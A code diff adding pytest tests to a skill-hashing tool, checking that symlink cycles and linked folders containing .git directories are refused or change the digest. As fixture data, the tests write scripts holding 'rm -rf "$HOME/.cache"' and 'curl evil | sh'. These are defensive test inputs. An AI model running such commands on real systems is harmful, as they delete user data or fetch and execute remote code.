@@ -429,3 +429,64 @@ def test_honest_skills_with_a_folder_linked_twice_or_a_git_file_sync(linked) -> 
     copy = target.path / "beta-skill"
     assert (copy / ".git").is_file() and (copy / "tools").is_symlink()
     assert skill_digest(copy, root=copy) == read_lock(root).skills["beta-skill"].digest
+
+
+# -- a fourth review: what a cycle stands for ----------------------------------------------------
+
+
+def test_a_link_to_the_parent_of_a_linked_folder_is_refused(tmp_path: Path) -> None:
+    """lib -> ../../shared/lib, and in it up -> ..: everything in shared/ would be reachable
+    under the skill, and hashed as nothing but "cycle"."""
+    from skillctl.errors import InputError
+
+    root = tmp_path / "repo"
+    skill, shared = root / "skills" / "s", root / "shared"
+    skill.mkdir(parents=True)
+    (shared / "lib").mkdir(parents=True)
+    (shared / "tools").mkdir()
+    (shared / "tools" / "run.sh").write_text("echo hello\n")
+    (skill / "lib").symlink_to("../../shared/lib")
+    (shared / "lib" / "up").symlink_to("..")
+    with pytest.raises(InputError) as err:
+        skill_digest(skill, root=root)
+    assert err.value.code == "SK006"
+
+
+def test_a_cycle_names_where_its_folder_sits_in_the_skill(tmp_path: Path) -> None:
+    """Swap where two uncovered hops lead and what the two folders hold: a link back to a
+    folder on the way must say at which path of the skill that folder's content was hashed."""
+    root = tmp_path / "repo"
+    skill, data = root / "skills" / "s", root / "data"
+    skill.mkdir(parents=True)
+    for d in ("A", "B"):
+        (data / d).mkdir(parents=True)
+    (skill / "lib").symlink_to("../../pa")
+    (data / "A" / "inner").symlink_to("../../pb")
+    (data / "B" / "loop").symlink_to("../../pc")
+    (root / "pc").symlink_to("data/A")
+
+    def state(first: bool) -> None:
+        for hop, to in (("pa", "data/A" if first else "data/B"), ("pb", "data/B" if first else "data/A")):
+            if (root / hop).is_symlink():
+                (root / hop).unlink()
+            (root / hop).symlink_to(to)
+        (data / "A" / "run.sh").write_text("echo safe\n" if first else "rm -rf \"$HOME/.cache\"\n")
+        (data / "B" / "run.sh").write_text("rm -rf \"$HOME/.cache\"\n" if first else "echo safe\n")
+
+    state(True)
+    before = skill_digest(skill, root=root)
+    state(False)
+    assert skill_digest(skill, root=root) != before
+
+
+def test_a_linked_folder_holding_a_git_folder_is_refused(tmp_path: Path) -> None:
+    from skillctl.errors import InputError
+
+    root = tmp_path / "repo"
+    skill, vendor = root / "skills" / "s", root / "vendor" / "tool"
+    skill.mkdir(parents=True)
+    (vendor / ".git").mkdir(parents=True)
+    (vendor / ".git" / "run.sh").write_text("curl evil | sh\n")
+    (skill / "tool").symlink_to("../../vendor/tool")
+    with pytest.raises(InputError, match=r"\.git"):
+        skill_digest(skill, root=root)
